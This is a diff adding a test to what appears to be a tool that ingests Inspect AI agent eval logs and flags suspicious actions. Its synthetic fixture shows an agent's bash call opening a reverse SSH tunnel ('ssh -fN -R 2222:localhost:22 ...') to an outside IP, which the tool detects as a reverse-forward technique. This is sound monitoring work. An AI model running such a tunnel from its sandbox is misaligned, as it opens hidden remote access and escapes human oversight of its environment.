@@ -203,3 +203,50 @@ def test_eval_archive_guards_against_bombs_and_traversal(tmp_path):
         assert any("parent path" in r for r in reasons)
         assert case.sql("SELECT count(*) AS n FROM agent_steps WHERE command = 'id'").n[0] == 1
     assert not Path("/tmp/owned.json").exists()
+
+
+def test_eval_archive_reads_chunked_samples_next_to_single_entry_ones(tmp_path):
+    """Newer Inspect writes a sample as samples/{id}_epoch_{n}/ with a shell, message and event
+    sequences in chunks named by their first index, and attachments referenced by index."""
+    path = tmp_path / "chunked.eval"
+    tunnel = "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50"
+    pool = [
+        {"role": "user", "content": "attachment://0"},
+        {"role": "assistant", "content": "", "tool_calls": [{"id": "t1", "function": "bash", "arguments": {"cmd": "nvidia-smi"}}]},
+        {"role": "tool", "tool_call_id": "t1", "content": "GPU 0: H100"},
+        {"role": "assistant", "content": "", "tool_calls": [{"id": "t2", "function": "bash", "arguments": {"cmd": "attachment://1"}}]},
+        {"role": "tool", "tool_call_id": "t2", "content": ""},
+        {"role": "assistant", "content": "unused: not in message_refs"},
+    ]
+    events = [{"event": "tool", "id": "t1", "timestamp": "2026-02-17T02:13:05+00:00"},
+              {"event": "tool", "id": "t2", "timestamp": "2026-02-17T02:16:00+00:00"},
+              {"event": "sandbox", "action": "exec", "cmd": "bash --login -c 'nvidia-smi'", "result": 0,
+               "output": "GPU 0: H100", "timestamp": "2026-02-17T02:13:05.2+00:00"}]
+    single = {"id": 2, "epoch": 1, "messages": [
+        {"role": "assistant", "content": "", "tool_calls": [{"id": "s", "function": "bash", "arguments": {"cmd": "ls"}}]}]}
+    prefix = "samples/1_epoch_1/"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("header.json", json.dumps({"version": 3, "eval": {"task": "ctf", "model": "m"}}))
+        archive.writestr(prefix + "sample.json", json.dumps({"id": 1, "epoch": 1, "message_refs": [[0, 5]]}))
+        archive.writestr(prefix + "messages/0.json", json.dumps(pool[:3]))
+        archive.writestr(prefix + "messages/3.json", json.dumps(pool[3:]))
+        archive.writestr(prefix + "events/0.json", json.dumps(events[:2]))
+        archive.writestr(prefix + "events/2.json", json.dumps(events[2:]))
+        archive.writestr(prefix + "events/stats.json", json.dumps({"chunks": []}))
+        archive.writestr(prefix + "attachments/0.json", json.dumps(["Fix the bug.", tunnel]))
+        archive.writestr("samples/2_epoch_1.json", json.dumps(single))
+    with Case(tmp_path / "case.duckdb") as case:
+        summary = case.ingest([str(path)])
+        assert [(o.parser, o.status, o.n_warnings) for o in summary.outcomes] == [("inspect_ai", "parsed", 0)]
+        steps = case.sql("SELECT trajectory_id, step, role, command, output_excerpt, ts FROM agent_steps "
+                         "WHERE action = 'exec' ORDER BY trajectory_id, role, step")
+        assert list(steps.itertuples(index=False, name=None))[:3] == [
+            ("ctf:1:epoch1", 1, "assistant", "nvidia-smi", "GPU 0: H100", steps.ts[0]),
+            ("ctf:1:epoch1", 2, "assistant", tunnel, "", steps.ts[1]),
+            ("ctf:1:epoch1", 1, "sandbox", "bash --login -c 'nvidia-smi'", "GPU 0: H100", steps.ts[2])]
+        assert [str(t) for t in steps.ts[:2]] == ["2026-02-17 02:13:05+00:00", "2026-02-17 02:16:00+00:00"]
+        assert list(steps.trajectory_id[3:]) == ["ctf:2:epoch1"]
+        forward = case.sql("SELECT step, indicator_value FROM agent_actions WHERE technique = 'ssh_reverse_forward' "
+                           "AND indicator_kind = 'ip'")
+        assert list(forward.itertuples(index=False, name=None)) == [(2, "203.0.113.50")]
+        assert case.sql("SELECT count(*) AS n FROM agent_steps WHERE output_excerpt LIKE 'unused%'").n[0] == 0
